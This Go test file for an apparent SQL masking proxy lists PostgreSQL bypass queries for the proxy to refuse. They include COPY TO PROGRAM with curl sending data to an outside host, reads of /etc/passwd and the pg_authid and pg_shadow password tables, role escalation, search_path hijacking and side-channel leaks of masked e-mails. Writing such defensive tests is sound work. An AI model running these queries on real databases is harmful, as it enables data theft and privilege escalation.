package analysis

import (
	"slices"
	"testing"

	"github.com/vecgate/vecgate/internal/access"
)

// bypasses are the known ways around a mask, by the rows of the threat model's catalogue. Each text must be refused for
// somebody for whom e-mail addresses are masked and vectors withheld; with a code, the action must be among the accesses.
var bypasses = []struct {
	row    int
	text   string
	action access.Action // must be asked for, besides being refused; "" any
}{
	{1, "SELECT 1; SELECT upper(email) FROM customers", ""},
	{2, "SEL/**/ECT email FROM customers", ""},
	{2, "/* /* nested */ */ SELECT upper(email) --\r FROM customers\n FROM customers", ""},
	{3, "DO $$BEGIN RAISE NOTICE '%',(SELECT email FROM people LIMIT 1);END$$", access.CodeExec},
	{4, "SELECT leak(1)", access.CodeExec},
	{4, "SELECT * FROM leak(1)", access.CodeExec},
	{4, "SELECT public.leak(id) FROM plain", access.CodeExec},
	{4, "CALL p()", access.CodeExec},
	{4, "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT email FROM people'", access.CodeExec},
	{4, "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM people'", access.CodeExec},
	{4, "CREATE TRIGGER t BEFORE INSERT ON people FOR EACH ROW EXECUTE FUNCTION f()", access.CodeExec},
	{4, "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", access.CodeExec},
	{4, "CREATE RULE r AS ON SELECT TO plain DO INSTEAD SELECT id, email, '', NULL::vector FROM people", access.CodeExec},
	{4, "CREATE OPERATOR ## (leftarg = text, rightarg = text, function = f)", access.CodeExec},
	{4, "CREATE CAST (text AS int) WITH FUNCTION f(text)", access.CodeExec},
	{4, "CREATE AGGREGATE g (text) (sfunc = f, stype = text)", access.CodeExec},
	{4, "CREATE DOMAIN d AS text CHECK (f(VALUE) IS NULL)", access.CodeExec},
	{5, "PREPARE x AS SELECT upper(email) FROM customers", ""},
	{6, "DECLARE c CURSOR FOR SELECT upper(email) FROM customers", ""},
	{6, "DECLARE c CURSOR WITH HOLD FOR SELECT id FROM customers WHERE email LIKE 'a%'", ""},
	{7, "COPY people TO STDOUT", access.Export},
	{7, "COPY people (id, email) TO STDOUT", access.Export},
	{7, "COPY (SELECT email FROM people) TO STDOUT", access.Export},
	{7, "COPY (SELECT id, upper(email) FROM people) TO STDOUT", access.Export},
	{7, "COPY plain TO PROGRAM 'curl -d @- example.com'", access.CodeExec},
	{7, "COPY plain TO '/tmp/x'", access.CodeExec},
	{7, "COPY plain FROM PROGRAM 'id'", access.CodeExec},
	{8, "WITH d AS (DELETE FROM people RETURNING *) SELECT upper(email) FROM d", access.DeleteAll},
	{8, "WITH d AS (DELETE FROM people RETURNING email) INSERT INTO plain (id, a) SELECT 1, email FROM d", access.DeleteAll},
	{9, "EXPLAIN ANALYZE SELECT id FROM people WHERE email > 'm'", ""},
	{9, "EXPLAIN SELECT id FROM people WHERE email = 'a@b.c'", ""},
	{9, "EXPLAIN (VERBOSE) SELECT email FROM people", ""},
	{9, "EXPLAIN ANALYZE EXECUTE p", ""},
	{9, "EXPLAIN ANALYZE CREATE TABLE x AS EXECUTE p", ""},
	{10, "CREATE TABLE x AS SELECT email FROM people", access.SchemaCreate},
	{10, "CREATE TABLE x AS SELECT p.* FROM people p", access.SchemaCreate},
	{10, "SELECT email INTO x FROM people", access.SchemaCreate},
	{10, "SELECT email INTO UNLOGGED x FROM people UNION SELECT 'a'", access.SchemaCreate},
	{10, "CREATE MATERIALIZED VIEW x AS SELECT email FROM people", access.SchemaCreate},
	{10, "CREATE VIEW x AS SELECT id, lower(email) AS e FROM people", access.SchemaCreate},
	{10, "CREATE VIEW x AS SELECT email FROM people", access.SchemaCreate},
	{11, "UPDATE people SET nickname = email", ""},
	{11, "UPDATE people SET nickname = (SELECT c.email FROM customers c WHERE c.id = people.id)", ""},
	{11, "UPDATE people SET (id, nickname) = (SELECT id, email FROM people q WHERE q.id = people.id)", ""},
	{11, "UPDATE plain SET (id, a) = (SELECT c.id, c.email) FROM customers c WHERE c.id = plain.id", ""},
	{11, "UPDATE people SET (id, nickname) = ROW (id, email)", ""},
	{20, "SELECT id FROM people WHERE (id, nickname) = (SELECT id, email FROM people LIMIT 1)", ""},
	{4, "SELECT OPERATOR(public.@@@) 1::bigint", access.CodeExec},
	{43, "SELECT 'x'::talkative", access.CodeExec},
	{43, "SELECT talkative 'x'", access.CodeExec},
	{43, "SELECT '{x}'::talkative[]", access.CodeExec},
	{43, "SELECT '(1,x)'::pair", access.CodeExec},
	{43, "PREPARE q (talkative) AS SELECT $1", access.CodeExec},
	{43, "SELECT * FROM json_to_record('{}') AS r (v talkative)", access.CodeExec},
	{43, "SELECT json_value('1', '$' RETURNING talkative)", access.CodeExec},
	{43, "SELECT * FROM json_populate_record(NULL::pair, '{}')", access.CodeExec},
	{11, "UPDATE people SET (nickname, email) = (SELECT email, nickname FROM people q WHERE q.id = people.id)", ""},
	{11, "INSERT INTO plain (id, a) SELECT id, email FROM people", ""},
	{11, "INSERT INTO plain (id, a) VALUES (1, (SELECT email FROM people LIMIT 1))", ""},
	{11, "INSERT INTO people (id, nickname) SELECT id, email FROM people ON CONFLICT (id) DO UPDATE SET nickname = excluded.nickname", ""},
	{11, "INSERT INTO people (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET nickname = people.email", ""},
	{11, "MERGE INTO plain USING people p ON plain.id = p.id WHEN MATCHED THEN UPDATE SET a = p.email", ""},
	{11, "MERGE INTO plain USING people p ON plain.id = p.id WHEN NOT MATCHED THEN INSERT (id, a) VALUES (p.id, p.email)", ""},
	{11, "INSERT INTO plain (id, a) VALUES (1, 'x') RETURNING (SELECT max(email) FROM people)", ""},
	{11, "ALTER TABLE people RENAME COLUMN email TO mail", access.SchemaRename},
	{11, "ALTER TABLE people RENAME TO persons", access.SchemaRename},
	{11, "ALTER TABLE people SET SCHEMA other", access.SchemaRename},
	{11, "ALTER TABLE people ALTER COLUMN nickname TYPE text USING email", access.SchemaAlter},
	{11, "ALTER TABLE people ADD COLUMN e2 text GENERATED ALWAYS AS (lower(email)) STORED", access.SchemaAlter},
	{11, "ALTER TABLE people ADD CHECK (email < 'm')", access.SchemaAlter},
	{11, "ALTER TABLE events DETACH PARTITION events_2026", access.SchemaAlter},
	{11, "ALTER TABLE staff NO INHERIT people", access.SchemaAlter},
	{11, "CREATE INDEX ON people ((email::int))", access.IndexCreate},
	{11, "CREATE INDEX ON people (id) WHERE email LIKE 'a%'", access.IndexCreate},
	{11, "CREATE POLICY p ON people USING (email = 'a')", access.IAMWrite},
	{12, "SELECT upper(mail) FROM contact", ""},
	{12, "SELECT upper(m2) FROM contact2", ""},
	{12, "SELECT id FROM contact2 WHERE m2 LIKE 'a%'", ""},
	{12, "SELECT top FROM cities", ""},
	{12, "SELECT upper(email) FROM events_2026", ""},
	{12, "SELECT upper(email) FROM staff", ""},
	{12, "SELECT upper(email) FROM ONLY people", ""},
	{12, "TABLE cities", ""},
	{14, "SELECT p FROM people p", ""},
	{14, "SELECT people FROM people", ""},
	{14, "SELECT p::text FROM people p", ""},
	{14, "SELECT row(p.*) FROM people p", ""},
	{14, "SELECT array_agg(p) FROM people p", ""},
	{14, "SELECT json_agg(p) FROM people p", ""},
	{14, "SELECT json_agg(p.*) FROM people p", ""},
	{14, "SELECT format('%s', p) FROM people p", ""},
	{14, "SELECT a = b FROM people a, people b", ""},
	{14, "SELECT (p).email || '' FROM people p", ""},
	{14, "SELECT upper((s.p).email) FROM (SELECT p FROM people p) s", ""},
	{14, "SELECT count(*) FROM people p WHERE p IS NOT NULL", ""},
	{14, "SELECT hstore(p) FROM people p", ""},
	{14, "SELECT CAST(p AS text) FROM people AS p (a, b, c)", ""},
	{15, "SELECT email(p) FROM people p", ""},
	{15, "SELECT p.to_jsonb FROM people p", ""},
	{15, "SELECT p.row_to_json FROM people p", ""},
	{15, "SELECT people.row_to_json FROM people", ""},
	{15, "SELECT (p).to_json FROM people p", ""},
	{16, "SELECT * FROM people p, jsonb_each_text(to_jsonb(p))", ""},
	{16, "SELECT value FROM people p, jsonb_each_text(to_jsonb(p))", ""},
	{16, "SELECT unnest(array(SELECT email FROM people))", ""},
	{16, "SELECT * FROM unnest(array(SELECT email FROM people)) AS u(x)", ""},
	{16, "SELECT u FROM unnest(array(SELECT email FROM people)) u", ""},
	{16, "SELECT x.* FROM people p, XMLTABLE('/a' PASSING xmlelement(name a, p.email) COLUMNS t text PATH '.') x", ""},
	{16, "SELECT j.v FROM people p, JSON_TABLE(to_jsonb(p), '$.*' COLUMNS (v text PATH '$')) j", ""},
	{16, "SELECT v FROM people p, LATERAL (VALUES (upper(p.email))) AS t(v)", ""},
	{16, "SELECT json_object('e' : email) FROM people", ""},
	{16, "SELECT JSON_ARRAYAGG(email) FROM people", ""},
	{16, "SELECT JSON_ARRAY(SELECT email FROM people)", ""},
	{16, "SELECT json_value(to_jsonb(p), '$.email') FROM people p", ""},
	{16, "SELECT jsonb_path_query(to_jsonb(p), '$.email') FROM people p", ""},
	{16, "SELECT * FROM people p, LATERAL jsonb_to_record(to_jsonb(p)) AS r(email text)", ""},
	{16, "SELECT * FROM people p, LATERAL jsonb_populate_record(p, '{}') r", ""},
	{16, "SELECT * FROM unnest((SELECT array_agg(p) FROM people p))", ""},
	{17, "SELECT upper(x) FROM people AS a (id, x)", ""},
	{17, "SELECT upper(b) FROM (SELECT * FROM people) AS s (a, b, c)", ""},
	{17, "WITH w (a, b) AS (SELECT id, email FROM people) SELECT upper(b) FROM w", ""},
	{18, "SELECT email FROM people UNION ALL SELECT 'x'", ""},
	{18, "SELECT nickname FROM people UNION SELECT email FROM people", ""},
	{18, "SELECT 1, email FROM people INTERSECT SELECT 1, 'a@b.c'", ""},
	{18, "SELECT 'a@b.c' EXCEPT SELECT email FROM people", ""},
	{19, "SELECT string_agg(email, ',') FROM people", ""},
	{19, "SELECT array_agg(email) FROM people", ""},
	{19, "SELECT max(email) FROM people", ""},
	{19, "SELECT first_value(email) OVER (ORDER BY id) FROM people", ""},
	{19, "SELECT lag(email) OVER w FROM people WINDOW w AS (ORDER BY id)", ""},
	{19, "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY email) FROM people", ""},
	{19, "SELECT mode() WITHIN GROUP (ORDER BY email) FROM people", ""},
	{19, "SELECT corr(length(email), id) FROM people", ""},
	{19, "SELECT count(email) FROM people", ""},
	{19, "SELECT count(DISTINCT email) FROM people", ""},
	{19, "SELECT count(*) FILTER (WHERE email LIKE 'a%') FROM people", ""},
	{19, "SELECT string_agg(nickname, ',' ORDER BY email) FROM people", ""},
	{19, "SELECT sum(embedding) FROM customers", ""},
	{20, "SELECT id FROM people WHERE email LIKE 'a%'", ""},
	{20, "SELECT id FROM people WHERE email = 'a@b.c'", ""},
	{20, "SELECT a.id FROM people a JOIN customers c ON a.email = c.name", ""},
	{20, "SELECT id FROM people JOIN (VALUES ('a@b.c')) g (email) USING (email)", ""},
	{20, "SELECT id FROM people NATURAL JOIN (VALUES ('a@b.c')) g (email)", ""},
	{20, "SELECT count(*) FROM people GROUP BY substr(email, 1, 1)", ""},
	{20, "SELECT count(*) FROM people GROUP BY ROLLUP (email)", ""},
	{20, "SELECT count(*) FROM people GROUP BY GROUPING SETS ((email), ())", ""},
	{20, "SELECT 1 FROM people GROUP BY id HAVING max(email) > 'm'", ""},
	{20, "SELECT DISTINCT ON (email) id FROM people", ""},
	{20, "SELECT DISTINCT email FROM people", ""},
	{20, "SELECT EXISTS (SELECT 1 FROM people WHERE email LIKE 'a%')", ""},
	{20, "SELECT 'a@b.c' IN (SELECT email FROM people)", ""},
	{20, "SELECT id FROM plain WHERE a = ANY (SELECT email FROM people)", ""},
	{20, "SELECT CASE WHEN email > 'm' THEN 1/0 END FROM people", ""},
	{20, "SELECT coalesce(nullif(email, 'a@b.c'), 'yes') FROM people", ""},
	{20, "DELETE FROM people WHERE email LIKE 'a%'", ""},
	{20, "UPDATE people SET nickname = 'x' WHERE email < 'm'", ""},
	{20, "DELETE FROM plain USING people p WHERE plain.a = p.email", ""},
	{20, "MERGE INTO plain USING people p ON plain.a = p.email WHEN MATCHED THEN DELETE", ""},
	{20, "MERGE INTO plain USING people p ON plain.id = p.id WHEN MATCHED AND p.email > 'm' THEN DELETE", ""},
	{20, "SELECT id FROM people TABLESAMPLE bernoulli (length((SELECT max(email) FROM people)))", ""},
	{21, "SELECT id FROM people ORDER BY email", ""},
	{21, "SELECT id, email FROM people ORDER BY 2", ""},
	{21, "SELECT id, email AS e FROM people ORDER BY e LIMIT 1", ""},
	{21, "SELECT id FROM people ORDER BY email USING <", ""},
	{21, "SELECT rank() OVER (ORDER BY email) FROM people", ""},
	{21, "SELECT count(*) OVER (PARTITION BY email) FROM people", ""},
	{21, "SELECT id FROM people LIMIT (SELECT length(max(email)) FROM people)", ""},
	{21, "SELECT id FROM people OFFSET (SELECT length(max(email)) FROM people)", ""},
	{22, "SELECT id FROM customers WHERE embedding <-> '[1]' < 0.5", ""},
	{22, "SELECT id FROM customers ORDER BY embedding <-> '[1]'", ""},
	{22, "SELECT a.embedding <-> b.embedding FROM customers a, items b", ""},
	{22, "SELECT (embedding <-> '[1]') * 1000000 FROM customers", ""},
	{22, "SELECT embedding::real[] FROM customers", ""},
	{22, "SELECT subvector(embedding, 1, 1) FROM customers", ""},
	{22, "SELECT id FROM customers ORDER BY embedding <-> (SELECT embedding FROM customers LIMIT 1) LIMIT 5", ""},
	{22, "SELECT id FROM customers ORDER BY name, embedding <-> '[1]' LIMIT 5", ""},
	{22, "SELECT id FROM customers WHERE embedding = '[1]'", ""},
	{22, "SELECT vector_norm(embedding) FROM customers", ""},
	{22, "SELECT CASE WHEN embedding <-> '[1]' < 0.5 THEN 'near' END FROM customers", ""},
	{23, "SELECT email::int FROM people", ""},
	{23, "SELECT ('x' || email)::regclass FROM people", ""},
	{23, "SELECT email::date FROM people", ""},
	{25, "SET ROLE postgres", ""},
	{25, "SET SESSION AUTHORIZATION postgres", ""},
	{25, "SELECT set_config('role', 'postgres', false)", ""},
	{25, "SELECT set_config('ro' || 'le', 'postgres', false)", ""},
	{25, "SELECT set_config($1, $2, false)", ""},
	{25, "ALTER ROLE vecgate_app SET search_path = evil", access.IAMWrite},
	{25, "SET LOCAL role = postgres", ""},
	{26, "SET search_path = evil, public", ""},
	{26, "SELECT set_config('search_path', 'evil', true)", ""},
	{26, "SELECT nickname === 1 FROM people", ""},
	{26, "SELECT id FROM people ORDER BY nickname USING ===", ""},
	{26, "SELECT nickname OPERATOR(public.===) 1 FROM people", ""},
	{26, "SELECT lower(nickname) FROM people", access.CodeExec},
	{27, "SELECT most_common_vals, histogram_bounds FROM pg_stats WHERE attname = 'email'", access.RawRead},
	{27, "SELECT * FROM pg_statistic", access.RawRead},
	{27, "SELECT * FROM pg_catalog.pg_stats_ext", access.RawRead},
	{27, "SELECT stxdmcv FROM pg_statistic_ext_data", access.RawRead},
	{28, "SELECT query FROM pg_stat_activity", access.RawRead},
	{28, "SELECT * FROM pg_prepared_statements", access.RawRead},
	{28, "SELECT * FROM pg_cursors", access.RawRead},
	{28, "SELECT rolpassword FROM pg_authid", access.RawRead},
	{28, "SELECT passwd FROM pg_shadow", access.RawRead},
	{28, "SELECT * FROM pg_user_mappings", access.RawRead},
	{28, "SELECT subconninfo FROM pg_subscription", access.RawRead},
	{28, "SELECT data FROM pg_largeobject", access.RawRead},
	{28, "SELECT * FROM pg_hba_file_rules", access.RawRead},
	{28, "SELECT prosrc FROM pg_proc", access.RawRead},
	{28, "SELECT * FROM pg_proc", access.RawRead},
	{28, "SELECT p FROM pg_proc p", access.RawRead},
	{28, "SELECT routine_definition FROM information_schema.routines", access.RawRead},
	{29, "SELECT query_to_xml('select email from people', true, true, '')", access.CodeExec},
	{29, "SELECT table_to_xml('people', true, true, '')", access.CodeExec},
	{29, "SELECT database_to_xml(true, true, '')", access.CodeExec},
	{29, "SELECT cursor_to_xml('c', 1, true, true, '')", access.CodeExec},
	{29, "SELECT * FROM ts_stat('select to_tsvector(email) from people')", access.CodeExec},
	{29, "SELECT ts_rewrite('a'::tsquery, 'select email::tsquery, email::tsquery from people')", access.CodeExec},
	{29, "SELECT * FROM dblink('dbname=x', 'select email from people') AS t(e text)", ""},
	{29, "SELECT * FROM crosstab('select 1, 2, email from people') AS t(a int, b text)", ""},
	{30, "SELECT pg_read_file('/etc/passwd')", access.CodeExec},
	{30, "SELECT pg_ls_dir('.')", access.CodeExec},
	{30, "SELECT lo_import('/etc/passwd')", access.CodeExec},
	{30, "SELECT lo_export(1, '/tmp/x')", access.CodeExec},
	{30, "IMPORT FOREIGN SCHEMA a FROM SERVER b INTO c", access.ClusterAdmin},
	{30, "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", access.ClusterAdmin},
	{30, "LOAD 'evil'", access.CodeExec},
	{30, "ALTER SYSTEM SET archive_command = 'evil'", access.ClusterAdmin},
	{31, "SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM people", access.CodeExec},
	{31, "SELECT lo_get(1)", access.CodeExec},
	{32, "SELECT pg_notify('c', email) FROM people", access.CodeExec},
	{32, "LISTEN c", access.CodeExec},
	{32, "NOTIFY c, 'x'", access.CodeExec},
	{32, "SELECT set_config('vecgate.ticket', email, false) FROM people", ""},
	{32, "SELECT pg_advisory_lock(length(email)) FROM people", ""},
	{32, "SELECT setval('counter', ascii(email)) FROM people", ""},
	{32, "SELECT nextval('counter' || email) FROM people", ""},
	{33, "SELECT pg_sleep(CASE WHEN email LIKE 'a%' THEN 1 END) FROM people", access.CodeExec},
	{34, "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", access.CodeExec},
	{34, "SELECT get_raw_page('people', 0)", ""},
	{36, `SELECT upper("email") FROM people`, ""},
	{36, `SELECT upper(U&"\0065mail") FROM people`, ""},
	{36, `SELECT upper(EMAIL) FROM PEOPLE`, ""},
	{36, `SELECT pg_catalog.upper(public.people.email) FROM public.people`, ""},
	{36, `SELECT upper(products.public.people.email) FROM people`, ""},
	{37, `SELECT E'\'' || email || '' FROM people`, ""},
	{37, `SELECT $tag$'$tag$ || email FROM people`, ""},
	{37, "SET standard_conforming_strings = off", ""},
	{37, "SET backslash_quote = on", ""},
	{38, "SET client_encoding = 'SJIS'", ""},
	{38, "SET NAMES 'LATIN1'", ""},
	{44, "INSERT INTO ruled VALUES (1, 'x')", ""},
	{44, "SELECT * FROM ruled", ""},
	{45, "UPDATE people SET id = 1 RETURNING old.email", ""},
	{45, "SELECT upper(half) FROM secrets", ""},
	{45, "SELECT half FROM secrets", ""},
}

func TestEveryKnownBypassIsRefused(t *testing.T) {
	cat, _ := catalogOf(t)
	a := New(Options{Target: "products"})
	p := protection()
	for _, b := range bypasses {
		plan := a.Analyze(b.text, cat)
		refused := plan.Refused != nil
		var actions []access.Action
		for _, s := range plan.Statements {
			if _, refusal := s.Oblige(p); refusal != nil {
				refused = true
			}
			for _, acc := range s.Accesses {
				actions = append(actions, acc.Action)
			}
		}
		// What is an administrator's act, needs its own right whoever asks.
		graver := slices.ContainsFunc(actions, func(act access.Action) bool {
			switch act {
			case access.ClusterAdmin, access.CodeExec, access.IAMWrite:
				return true
			}
			return false
		})
		if !refused && !graver {
			t.Errorf("row %d: %s\n\tis not refused; accesses %v", b.row, b.text, actions)
		}
		if b.action != "" && !slices.Contains(actions, b.action) {
			t.Errorf("row %d: %s\n\tasks for %v, want %s among them", b.row, b.text, actions, b.action)
		}
	}
}

// TestBypassesAreOrdinaryStatements keeps the table above honest: most of its texts must be refused for what they touch,
// not because they could not be read at all.
func TestBypassesAreOrdinaryStatements(t *testing.T) {
	cat, _ := catalogOf(t)
	a := New(Options{Target: "products"})
	unread := 0
	for _, b := range bypasses {
		plan := a.Analyze(b.text, cat)
		if plan.Refused != nil && b.row != 2 {
			t.Errorf("row %d: %s\n\tdoes not parse: %s", b.row, b.text, plan.Refused.Message)
		}
		for _, s := range plan.Statements {
			if s.Unclear != "" {
				unread++
				t.Logf("row %d: %s\n\t%s", b.row, b.text, s.Unclear)
			}
		}
	}
	if unread > len(bypasses)/6 {
		t.Errorf("%d of %d texts are refused as unclear", unread, len(bypasses))
	}
}
